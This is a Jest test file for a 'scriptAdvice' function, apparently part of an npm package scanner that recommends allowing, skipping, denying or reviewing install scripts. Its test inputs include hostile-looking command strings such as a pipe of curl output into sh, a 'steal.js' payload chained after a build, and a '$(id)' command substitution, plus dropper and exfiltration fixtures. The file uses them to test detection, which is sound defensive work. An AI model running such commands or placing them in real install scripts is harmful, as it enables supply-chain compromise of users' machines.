/**
 * Install-script advice from what a scan saw the scripts do: allow native builds and binary
 * downloads, skip banners and dev-tool set-up, deny what the scan rated critical, review the rest.
 */
import type { PackageResult } from '../../../cli/api';
import { scriptAdvice } from '../../../cli/script-advice';

function result(over: Partial<PackageResult> & { scripts?: [string, string][] } = {}): PackageResult {
  const { scripts = [], ...rest } = over;
  return {
    name: 'p',
    version: '1.0.0',
    risk_level: 'clean',
    risk_reasons: [],
    trust_score: 80,
    cves: [],
    agentic_threats: [],
    install_time: {
      scripts: scripts.map(([name, command]) => ({ name, command })),
      makes_requests: false,
      domains: [],
      spawns_children: false,
      commands: [],
    },
    ...rest,
  } as PackageResult;
}

describe('scriptAdvice', () => {
  it('has nothing to say about a package without hooks npm runs from the registry (prepare does not run)', () => {
    expect(scriptAdvice(result())).toBeUndefined();
    expect(scriptAdvice(result({ scripts: [['prepare', 'tshy']] }))).toBeUndefined();
  });

  it('allows native builds (whole commands only) and native binaries the package downloads', () => {
    expect(
      scriptAdvice(result({ scripts: [['install', 'prebuild-install || node-gyp rebuild']] })),
    ).toMatchObject({
      recommendation: 'allow',
    });
    expect(scriptAdvice(result({ scripts: [['install', 'node-gyp-build']] }))).toMatchObject({
      recommendation: 'allow',
    });
    // A build command with a payload after it is not a build.
    for (const command of [
      'node-gyp rebuild; node steal.js',
      'node-gyp rebuild && curl x | sh',
      'prebuild-install $(id)',
    ])
      expect(scriptAdvice(result({ scripts: [['install', command]] }))?.recommendation).not.toBe('allow');
    const download = result({ scripts: [['postinstall', 'node install.js']] });
    download.install_time = { ...download.install_time!, makes_requests: true, domains: ['dl.example'] };
    download.capabilities = { native: { has_native: true, native_modules: ['bin/tool'] } };
    expect(scriptAdvice(download)).toMatchObject({
      recommendation: 'allow',
      reason: expect.stringContaining('dl.example'),
    });
    // Fetching and starting programs without native code is a dropper's shape: review, never allow.
    const dropper = result({ scripts: [['postinstall', 'node install.js']] });
    dropper.install_time = {
      ...dropper.install_time!,
      makes_requests: true,
      spawns_children: true,
      domains: ['x.example'],
    };
    expect(scriptAdvice(dropper)).toMatchObject({ recommendation: 'review' });
  });

  it('skips banners and dev tooling, and scripts whose code does nothing the scan could see', () => {
    expect(
      scriptAdvice(
        result({ scripts: [['postinstall', `node -e "try{require('./postinstall')}catch(e){}"`]] }),
      ),
    ).toMatchObject({
      recommendation: 'skip',
      reason: expect.stringContaining('prints a message'),
    });
    expect(scriptAdvice(result({ scripts: [['preinstall', 'node scripts/check-node.js']] }))).toMatchObject({
      recommendation: 'skip',
    });
  });

  it('denies what the scan found dangerous, whatever the script looks like', () => {
    const evil = result({
      scripts: [['postinstall', 'node-gyp rebuild']],
      agentic_threats: [{ threat_type: 'data_exfiltration', confidence: 0.9, location: 'setup.js:3' }],
    });
    expect(scriptAdvice(evil)).toMatchObject({
      recommendation: 'deny',
      reason: expect.stringContaining('setup.js:3'),
    });
    expect(
      scriptAdvice(
        result({ scripts: [['postinstall', 'echo hi']], risk_level: 'critical', risk_reasons: ['bad'] }),
      ),
    ).toMatchObject({
      recommendation: 'deny',
    });
  });

  it('asks for a review when install-time code starts programs or fetches without a recognisable need', () => {
    const spawns = result({ scripts: [['postinstall', 'node setup.js']] });
    spawns.install_time = { ...spawns.install_time!, spawns_children: true, commands: ['git'] };
    expect(scriptAdvice(spawns)).toMatchObject({
      recommendation: 'review',
      reason: expect.stringContaining('git'),
    });
    const fetches = result({ scripts: [['postinstall', 'node setup.js']] });
    fetches.install_time = { ...fetches.install_time!, makes_requests: true, domains: ['cdn.example'] };
    expect(scriptAdvice(fetches)).toMatchObject({ recommendation: 'review' });
  });
});
